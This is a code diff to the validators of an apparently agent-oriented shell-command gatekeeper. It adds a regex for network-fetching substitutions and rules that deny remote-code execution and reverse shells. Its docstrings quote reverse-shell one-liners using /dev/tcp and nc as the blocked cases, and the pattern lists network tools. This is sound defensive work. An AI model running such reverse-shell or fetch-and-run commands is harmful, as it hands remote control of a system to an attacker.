@@ -6,16 +6,19 @@ which judges shells fed by pipes, here-documents and process substitutions.
 
 from __future__ import annotations
 
+import re
 from dataclasses import dataclass
 
 from clawgate.decision import Verdict
 from clawgate.shell.model import SimpleCommand, Word
 from clawgate.validators.argv import opts
 from clawgate.validators.base import Context, Validator, register
-from clawgate.validators.programs import SHELLS
+from clawgate.validators.programs import NET_TOOLS, SHELLS
 
 _SHELL_OPTIONS = opts("oO", "rcfile init-file")
 _NET_DEVICES = ("/dev/tcp/", "/dev/udp/")
+# A substitution that downloads: its output, run as code, is remote code.
+FETCHED = re.compile(r"(?:\$\(|`|<\()[^)`]*\b(?:curl|wget|fetch|nc|ncat|aria2c|http)\b")
 
 
 @dataclass(frozen=True, slots=True)
@@ -95,6 +98,9 @@ class ShellCode(Validator):
         if call.code is None:
             return Verdict.ask(self.id, "shell -c without code reads it from elsewhere")
         if call.code.value is None:
+            if FETCHED.search(call.code.text):
+                return Verdict.deny(self.id, "the shell runs code fetched from the network",
+                                    hint="download it, read it, then run it")
             return Verdict.ask(self.id, "the shell runs code only known at run time",
                                hint="write the code out literally")
         return Verdict.unwrap(call.code.value)
@@ -127,8 +133,9 @@ class InteractiveShell(Validator):
 
 @register
 class PrivilegedOrNetworkShell(Validator):
-    """A shell in privileged mode (``bash -p``, which keeps set-uid rights) or with its input or
-    output on a network socket (``bash -i >& /dev/tcp/h/4444 0>&1``): DENY.
+    """A shell in privileged mode (``bash -p``, which keeps set-uid rights), with its input or
+    output on a network socket (``bash -i >& /dev/tcp/h/4444 0>&1``, ``exec 5<>/dev/tcp/h/1``)
+    or piped into a network tool (``sh -i 2>&1 | nc h 1``): DENY.
 
     Bad: ``sh -p``. Harmless: ``sh -e ./script.sh``.
     """
@@ -138,9 +145,15 @@ class PrivilegedOrNetworkShell(Validator):
     def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
         call = shell_call(cmd)
         if call is None:
+            if cmd.program == "exec" and len(cmd.words) == 1 and net_redirect(cmd):
+                return Verdict.deny(self.id, "exec opens a network socket for the shell",
+                                    hint="this sets up a reverse shell")
             return Verdict.passthrough()
         if "p" in call.flags:
             return Verdict.deny(self.id, "a shell in privileged mode keeps elevated rights")
+        if (call.reads_stdin or "i" in call.flags) and cmd.pipes_into(NET_TOOLS):
+            return Verdict.deny(self.id, "a shell's output is piped to a network tool",
+                                hint="this is a reverse shell")
         target = net_redirect(cmd)
         if target is not None:
             return Verdict.deny(self.id, f"a shell wired to the network ({target})",
